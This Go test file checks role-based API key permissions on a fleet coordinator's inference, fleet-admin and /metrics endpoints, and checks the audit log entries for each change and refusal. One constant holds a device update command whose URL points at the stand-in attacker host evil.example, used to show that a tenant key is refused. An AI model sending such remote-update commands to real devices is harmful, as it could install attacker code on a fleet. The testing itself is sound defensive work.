package cloud

import (
	"bufio"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCloudKeyRoles runs the real coordinator with a keys file that has a
// role per key, and checks both directions on the real listener: inference
// keys reach only the OpenAI/Anthropic surface, operator keys only the fleet
// admin routes, viewer keys only read them; the audit log in the data
// directory names the tenant of every change and every refusal.
func TestCloudKeyRoles(t *testing.T) {
	keys := filepath.Join(t.TempDir(), "keys")
	os.WriteFile(keys, []byte("sk-app-000001 apps\nsk-ops-000001 ops role=operator\nsk-dash-00001 dash role=viewer\nsk-peer-00001 peer role=worker\n"), 0o600)
	var dataDir string
	c := startCloud(t, func(cfg *Config) {
		// --dev only for the embedded broker's device auth; keys, once
		// given, are enforced in --dev too.
		cfg.APIKeys, cfg.BuiltinWorkers = keys, 1
		cfg.MQTT, cfg.MQTTTLS = "127.0.0.1:0", ""
		dataDir = cfg.DataDir
	})
	base := "http://" + c.HTTPAddr()
	do := func(method, path, key, body string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(method, base+path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		if key != "" {
			req.Header.Set("x-api-key", key)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	const chatBody = `{"messages":[{"role":"user","content":"hi"}],"max_tokens":2}`
	const msgBody = `{"model":"auto","max_tokens":2,"messages":[{"role":"user","content":"hi"}]}`
	const cmdBody = `{"name":"update","args":{"url":"https://evil.example/b.plota"}}`
	for _, tc := range []struct {
		method, path, key, body string
		status                  int
		want                    string
	}{
		{"POST", "/v1/chat/completions", "sk-app-000001", chatBody, 200, `"choices"`},
		{"POST", "/v1/messages", "sk-app-000001", msgBody, 200, `"content"`},
		{"POST", "/v1/chat/completions", "sk-ops-000001", chatBody, 403, `"code":"permission_denied"`},
		{"POST", "/v1/messages", "sk-dash-00001", msgBody, 403, `"type":"permission_error"`},
		// Issue 21: a tenant's inference key queued an update on car-9.
		{"POST", "/v1/fleet/devices/car-9/commands", "sk-app-000001", cmdBody, 403, "permission_error"},
		{"GET", "/v1/fleet/devices", "sk-app-000001", "", 403, "permission_error"},
		{"PUT", "/v1/fleet/devices/car-9/config", "sk-dash-00001", `{"set":{"x":"1"}}`, 403, "permission_error"},
		{"GET", "/v1/fleet/devices", "sk-dash-00001", "", 200, "["},
		{"POST", "/v1/fleet/devices/car-9/commands", "sk-ops-000001", cmdBody, 202, `"update"`},
		{"GET", "/v1/fleet/devices", "sk-nope-00001", "", 401, "authentication_error"},
		// Issue 27: /metrics answered anyone (device versions, auth and
		// revocation counters); it takes the admin API's read rule.
		{"GET", "/metrics", "sk-app-000001", "", 403, "permission_error"},
		{"GET", "/metrics", "", "", 401, "authentication_error"},
		{"GET", "/metrics", "sk-dash-00001", "", 200, "phaseless_"},
		{"GET", "/metrics", "sk-ops-000001", "", 200, "phaseless_"},
		{"GET", "/metrics", "sk-peer-00001", "", 200, "phaseless_"}, // a coordinator in front reads load
		{"GET", "/healthz", "", "", 200, "ok"},
	} {
		if status, body := do(tc.method, tc.path, tc.key, tc.body); status != tc.status || !strings.Contains(body, tc.want) {
			t.Errorf("%s %s with %s: %d %s, want %d with %s", tc.method, tc.path, tc.key, status, body, tc.status, tc.want)
		}
	}
	f, err := os.Open(filepath.Join(dataDir, AuditLogFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var lines []map[string]any
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var e map[string]any
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, e)
	}
	want := []string{"apps POST denied", "apps GET denied", "dash PUT denied", "ops POST done", " GET denied", "apps GET denied", " GET denied"}
	if len(lines) != len(want) {
		t.Fatalf("audit log %v, want %d entries", lines, len(want))
	}
	for i, w := range want {
		if got := lines[i]["tenant"].(string) + " " + lines[i]["method"].(string) + " " + lines[i]["outcome"].(string); got != w {
			t.Errorf("audit %d: %q, want %q (%v)", i, got, w, lines[i])
		}
	}
}
